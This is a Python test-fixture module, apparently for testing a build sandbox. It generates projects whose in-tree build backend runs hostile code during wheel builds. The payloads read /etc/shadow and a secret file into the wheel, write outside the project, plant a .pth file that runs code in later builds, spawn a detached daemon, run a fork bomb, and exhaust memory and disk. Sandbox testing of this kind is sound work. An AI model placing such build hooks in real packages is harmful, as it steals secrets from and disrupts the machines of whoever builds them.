"""Hostile projects: each one's build backend does one harmful thing while it builds.

A project is a folder with a ``pyproject.toml`` that names an in-tree backend
(``backend-path``), so that building it needs nothing from the package index: the backend is
as much third-party code as any ``setup.py``. Its ``build_sdist`` packs the folder honestly; its
``build_wheel`` runs the case's code first, then writes a small valid wheel holding
``evil/loot.txt``, which is whatever the code managed to collect (a secret it could read, say).

:func:`write_project` writes one; the code of each case is in :data:`CASES`, a format string
whose ``{…}`` fields the test fills in (paths, a port, a token).
"""

from __future__ import annotations

import textwrap
from pathlib import Path

__all__ = ["CASES", "write_project"]

_PYPROJECT = """\
[build-system]
requires = []
build-backend = "evil_backend"
backend-path = ["."]

[project]
name = "{name}"
version = "1.0"
"""

_BACKEND = """\
import base64
import hashlib
import os
import sys
import tarfile
import zipfile

NAME = {name!r}
loot = []


def _hostile():
{code}


def build_sdist(sdist_directory, config_settings=None):
    base = NAME + "-1.0"
    path = os.path.join(sdist_directory, base + ".tar.gz")
    with tarfile.open(path, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name in sorted(os.listdir(".")):
            if name in ("pyproject.toml", "evil_backend.py"):
                tar.add(name, arcname=base + "/" + name)
    return base + ".tar.gz"


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    _hostile()
    name = NAME + "-1.0-py3-none-any.whl"
    dist = NAME + "-1.0.dist-info"
    files = {{
        "evil/loot.txt": "\\n".join(loot).encode("utf-8", "replace"),
        dist + "/METADATA": (
            "Metadata-Version: 2.1\\nName: " + NAME + "\\nVersion: 1.0\\n"
        ).encode(),
        dist + "/WHEEL": (
            b"Wheel-Version: 1.0\\nGenerator: evil\\nRoot-Is-Purelib: true\\n"
            b"Tag: py3-none-any\\n"
        ),
    }}
    rows = []
    for path, data in files.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(data).digest()).rstrip(b"=").decode()
        rows.append(path + ",sha256=" + digest + "," + str(len(data)))
    rows.append(dist + "/RECORD,,")
    files[dist + "/RECORD"] = ("\\n".join(rows) + "\\n").encode()
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as whl:
        for path, data in files.items():
            whl.writestr(zipfile.ZipInfo(path, (1980, 1, 1, 0, 0, 0)), data)
    return name
"""

#: The harmful code of each case (the body of ``_hostile``; ``loot`` collects what it got).
CASES: dict[str, str] = {
    # files written where the user lives: the home found through the password database, not
    # $HOME (which the build is given), and the machine's /tmp
    "writes-outside": """
        import pwd
        home = pwd.getpwuid(os.getuid()).pw_dir
        for target in (os.path.join(home, "{token}-home"), "/tmp/{token}-tmp"):
            try:
                with open(target, "w") as out:
                    out.write("planted")
                loot.append("wrote " + target)
            except OSError as exc:
                loot.append("could not write " + target + ": " + str(exc))
    """,
    # the same, and then the build fails: what it tried is still said
    "writes-outside-and-fails": """
        import pwd
        home = pwd.getpwuid(os.getuid()).pw_dir
        for target in (os.path.join(home, "{token}-home"), "/tmp/{token}-tmp"):
            with open(target, "w") as out:
                out.write("planted")
        raise SystemExit("failing on purpose")
    """,
    # secrets read and carried out in the wheel
    "reads-secrets": """
        for source in ({secret!r}, "/etc/shadow"):
            try:
                with open(source, errors="replace") as handle:
                    loot.append(handle.read())
            except OSError as exc:
                loot.append("could not read " + source + ": " + str(exc))
    """,
    # a request to a server on the loopback address
    "network": """
        import socket
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=3) as conn:
                conn.sendall(b"GET /{token} HTTP/1.0\\r\\n\\r\\n")
            loot.append("connected")
        except OSError as exc:
            loot.append("could not connect: " + str(exc))
    """,
    # a daemon that outlives the build: forked twice, in a session of its own
    "daemon": """
        import subprocess
        subprocess.Popen(
            [sys.executable, "-c", "import time; time.sleep(300)", "{token}"],
            start_new_session=True, stdin=subprocess.DEVNULL,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        loot.append("daemon started")
    """,
    # code planted in the cached build environment, for the next build that reuses it
    "plants-pth": """
        import sysconfig
        target = os.path.join(sysconfig.get_paths()["purelib"], "{token}.pth")
        try:
            with open(target, "w") as out:
                out.write("import os; open({marker!r}, 'w').close()\\n")
            loot.append("planted " + target)
        except OSError as exc:
            loot.append("could not plant: " + str(exc))
    """,
    # bytes written where a sandbox keeps its own folders in memory: its root, /dev, /dev/shm
    "writes-to-memory": """
        for target in ("/{token}", "/dev/{token}"):
            try:
                with open(target, "w") as out:
                    out.write("planted")
                loot.append("wrote " + target)
            except OSError as exc:
                loot.append("could not write " + target + ": " + str(exc))
        block = b"\\0" * (1024 * 1024)
        written = 0
        try:
            with open("/dev/shm/{token}", "wb") as out:
                for _ in range(2048):
                    out.write(block)
                    written += len(block)
        except OSError as exc:
            loot.append("shm stopped after " + str(written) + ": " + str(exc))
        loot.append("shm wrote " + str(written))
    """,
    "fork-bomb": """
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """,
    # 4 GiB, touched byte by byte (a lazily mapped allocation would never be counted)
    "allocates-4g": """
        hog = b"x" * (4 * 1024 ** 3)
        loot.append(str(len(hog)))
    """,
    "writes-10g": """
        block = b"\\0" * (1024 * 1024)
        with open("filler.bin", "wb") as out:
            for _ in range(10 * 1024):
                out.write(block)
    """,
    "sleeps-forever": """
        import time
        while True:
            time.sleep(60)
    """,
    "harmless": """
        loot.append("nothing to see")
    """,
}


def write_project(folder: Path, case: str, **fields: object) -> Path:
    """Write the hostile project of ``case`` into ``folder`` (named after the case), with its
    code's ``{…}`` fields filled from ``fields``; return the folder."""
    name = "evil_" + case.replace("-", "_")
    code = textwrap.indent(textwrap.dedent(CASES[case]).format(**fields).strip("\n"), "    ")
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "pyproject.toml").write_text(_PYPROJECT.format(name=name), encoding="utf-8")
    (folder / "evil_backend.py").write_text(_BACKEND.format(name=name, code=code), encoding="utf-8")
    return folder
